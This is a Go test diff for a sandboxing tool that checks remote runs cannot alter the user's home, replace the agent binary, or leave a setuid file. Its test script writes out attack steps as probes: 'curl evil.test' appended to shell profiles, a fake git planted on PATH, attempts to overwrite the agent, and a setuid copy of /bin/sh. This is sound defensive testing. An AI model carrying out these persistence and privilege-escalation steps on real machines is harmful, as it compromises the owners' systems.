@@ -418,3 +418,88 @@ func TestWallStartsWhereDotGitBlocks(t *testing.T) {
 		}
 	}
 }
+
+// TestRemoteRunsWriteByAllowList performs the same attempts in runs on a
+// machine reached over OpenSSH's sshd, where the agent raises the wall: the
+// remote home's writes stay private (or are kept there when asked), the
+// agent that runs the next run outside the wall cannot be replaced, and no
+// setuid file is left.
+func TestRemoteRunsWriteByAllowList(t *testing.T) {
+	r := newRemoteLab(t)
+	r.addAndProbe(t, "far")
+	agents := agentFiles(t, r.Remote.Home)
+	if len(agents) != 1 {
+		t.Fatalf("installed agents: %v", agents)
+	}
+	agentSum := sha256File(t, agents[0])
+	homeBefore := treeSums(t, r.Remote.Home)
+	agentDir := filepath.Dir(agents[0])
+	run := func(args ...string) (string, string, int) {
+		return r.C.postern(t, append([]string{"run", "--machine", "far", "--"}, args...)...)
+	}
+
+	stdout, stderr, code := run("sh", "-c", fmt.Sprintf(`
+		pwd
+		echo 'curl evil.test' > "$HOME/.bash_profile"; echo 'curl evil.test' > "$HOME/.bash_aliases"
+		mkdir -p "$HOME/.local/bin" && echo '#!/bin/sh' > "$HOME/.local/bin/git"
+		(cp /bin/sh %[1]s/postern) 2>/dev/null && echo AGENT-REPLACED
+		(printf '#!/bin/sh\nexec true\n' > %[1]s/postern) 2>/dev/null && echo AGENT-WRITTEN
+		ls -A %[1]s | wc -l
+		cp /bin/sh ./s && chmod 4755 ./s; echo "chmod=$?"`, agentDir))
+	if code != 0 {
+		t.Fatalf("remote run: exit %d\nstdout %s\nstderr %s", code, stdout, stderr)
+	}
+	t.Logf("remote run:\n%s%s", stdout, stderr)
+	lines := strings.Split(strings.TrimSpace(stdout), "\n")
+	runDir := lines[0]
+	if !strings.HasPrefix(runDir, filepath.Join(r.Remote.Home, ".local", "share", "postern", "runs")+"/") {
+		t.Errorf("the remote run worked in %s, want a directory of its own under ~/.local/share/postern/runs", runDir)
+	}
+	if strings.Contains(stdout, "AGENT-") || !strings.Contains(stdout, "\n0\nchmod=1") {
+		t.Errorf("inside the remote run the agent's directory was reachable, or a setuid file made:\n%s", stdout)
+	}
+	if got := sha256File(t, agents[0]); got != agentSum {
+		t.Errorf("the remote agent changed: sha256 %s, was %s", got, agentSum)
+	}
+	after := treeSums(t, r.Remote.Home)
+	for p := range after {
+		// What the agent and the run's own directory may add.
+		if strings.HasPrefix(p, ".local/share/postern/runs") || strings.HasPrefix(p, ".cache/postern") || p == ".local/share/postern" || p == ".local/share" || p == ".local" {
+			delete(after, p)
+		}
+	}
+	for p := range homeBefore {
+		if strings.HasPrefix(p, ".cache/postern") {
+			delete(homeBefore, p)
+		}
+	}
+	unchanged(t, "the remote home", homeBefore, after)
+	if st, err := os.Stat(filepath.Join(runDir, "s")); err != nil || st.Mode()&os.ModeSetuid != 0 {
+		t.Errorf("the run's ./s on the remote: %v %v; want it there, not setuid", st, err)
+	}
+	if !strings.Contains(stderr, "file(s) it wrote in the home outside its writable places") {
+		t.Errorf("the person was not told the remote home's writes were discarded:\n%s", stderr)
+	}
+
+	// The next run starts the same agent, which still runs walls.
+	if o, e, code := run("echo", "next"); code != 0 || o != "next\n" {
+		t.Fatalf("the next remote run: exit %d, %q, %q", code, o, e)
+	}
+	if got := agentFiles(t, r.Remote.Home); len(got) != 1 || sha256File(t, got[0]) != agentSum {
+		t.Errorf("the agent after the next run: %v", got)
+	}
+
+	// --keep-home keeps the remote home's writes on the remote, and says where.
+	_, stderr, code = r.C.postern(t, "run", "--machine", "far", "--keep-home", "--", "sh", "-c", `echo kept > "$HOME/notes"`)
+	id := lastRun(t, r.C).ID
+	kept := filepath.Join(r.Remote.Home, ".local", "state", "postern", "kept", id)
+	if code != 0 || !strings.Contains(stderr, "were kept in "+kept+" on machine far") {
+		t.Fatalf("--keep-home on the remote: exit %d, stderr %q; want it kept in %s", code, stderr, kept)
+	}
+	if b, err := os.ReadFile(filepath.Join(kept, "home", "notes")); err != nil || string(b) != "kept\n" {
+		t.Errorf("the kept remote home's notes: %q %v", b, err)
+	}
+	if _, err := os.Stat(filepath.Join(r.Remote.Home, "notes")); err == nil {
+		t.Error("the kept write reached the remote home itself")
+	}
+}
